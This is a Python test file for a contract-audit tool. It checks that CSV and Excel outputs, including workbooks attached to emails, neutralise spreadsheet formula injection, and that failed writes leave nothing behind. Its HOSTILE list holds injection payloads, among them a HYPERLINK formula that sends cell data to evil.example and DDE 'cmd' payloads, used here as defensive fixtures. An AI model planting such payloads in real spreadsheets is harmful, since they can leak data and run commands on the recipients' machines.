"""Every output cell a spreadsheet could run as a formula is inert (deviations.csv/.xlsx,
terms.csv, the xlsx attached to owners' emails); a write that fails leaves nothing half done."""

from __future__ import annotations

import io
from dataclasses import replace
from datetime import date
from decimal import Decimal
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from audit.core.atomic import OutputError
from audit.delivery import owner_workbooks
from audit.models import AuditRun, Clause, ContractDoc, Deviation, Period, Term, TermValue
from audit.notify.build import build_owner_emails
from audit.report.tables import write_deviations_csv, write_deviations_xlsx, write_terms_csv

HOSTILE = ['=HYPERLINK("http://evil.example/?x="&A1,"details")', "+31 6 12345678 bellen",
           "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C notepad'!A1", "\tleading tab",
           "\rcarriage return"]
NUMBERS = ["-12.50", "+3", "-1.234,56", "-", "10%"]
PERIOD = Period("2031-03", date(2031, 3, 1), date(2031, 3, 31), date(2030, 4, 1))


def deviation(text: str, number: str) -> Deviation:
    return Deviation(customer_id="K-77", rule_id="payment_term", kind="execution",
                     subject=text[:8], description=text, expected=number, actual=text,
                     evidence=(text,), impact_eur=Decimal("-12.50"), customer_name=text,
                     owner=text, owner_email="debiteuren@bakkerij-zuid.example",
                     action=text, contract_text=text, status="new",
                     due_date=date(2031, 4, 7))


def term(text: str) -> Term:
    doc = ContractDoc(Path("leverings-afspraken.pdf"), "0" * 64, ())
    return Term("K-77", "payment_term", (TermValue("days", text),),
                Clause(doc, "4.1", text, text, 2), 0.8)


def cells(sheet) -> list[openpyxl.cell.Cell]:
    return [c for row in sheet.iter_rows() for c in row if c.value is not None]


def assert_inert(book: openpyxl.Workbook) -> None:
    found = [c for s in book.worksheets for c in cells(s)]
    assert [c.coordinate for c in found if c.data_type == "f"] == [], "no formula cells"
    texts = {c.value.replace("\n", "\r") for c in found if isinstance(c.value, str)}
    for text in HOSTILE:
        assert text not in texts and "'" + text in texts, text
    figures = {c.value for c in found if isinstance(c.value, int | float)}
    for number in NUMBERS:  # a plain figure ('-12.50') is stored as the number it is
        assert number in texts or float(number) in figures, f"{number} is a value, left alone"


def test_formula_text_is_inert_in_every_output(tmp_path):
    deviations = [deviation(t, n) for t, n in zip(HOSTILE, NUMBERS + ["-7"], strict=True)]
    write_deviations_xlsx(deviations, tmp_path / "deviations.xlsx", "nl")
    assert_inert(openpyxl.load_workbook(tmp_path / "deviations.xlsx"))
    write_deviations_csv(deviations, tmp_path / "deviations.csv")
    rows = pd.read_csv(tmp_path / "deviations.csv", dtype=str, keep_default_na=False)
    assert len(rows) == len(HOSTILE), "a CR in a cell does not split the row"
    for column in ("customer_name", "description", "actual", "evidence", "owner", "action"):
        assert [v[0] for v in rows[column]] == ["'"] * len(HOSTILE), column
    assert list(rows["expected"]) == [*NUMBERS, "-7"]
    write_terms_csv([term(t) for t in HOSTILE], tmp_path / "terms.csv")
    terms = pd.read_csv(tmp_path / "terms.csv", dtype=str, keep_default_na=False)
    assert set(terms["value"].str[0]) == {"'"} and set(terms["text"].str[0]) == {"'"}


def test_formula_text_is_inert_in_the_emailed_attachment():
    run = AuditRun(PERIOD, deviations=[  # the owner's name is config, and a mail header
        replace(deviation(t, n), owner="Debiteuren")
        for t, n in zip(HOSTILE, NUMBERS + ["-7"], strict=True)])
    [email] = build_owner_emails(run, "audit@bakkerij-zuid.example", "en",
                                 owner_workbooks(run, "en"))
    [attachment] = list(email.message.iter_attachments())
    assert_inert(openpyxl.load_workbook(io.BytesIO(attachment.get_content())))


def test_an_output_that_cannot_be_written_names_the_file_and_leaves_nothing(tmp_path):
    blocked = tmp_path / "not-a-folder"
    blocked.write_text("a file where the output folder should be")
    with pytest.raises(OutputError) as error:
        write_deviations_csv([deviation("x", "1")], blocked / "deviations.csv")
    assert str(error.value).startswith(f"{blocked / 'deviations.csv'}: cannot write the file")
    assert list(tmp_path.iterdir()) == [blocked]
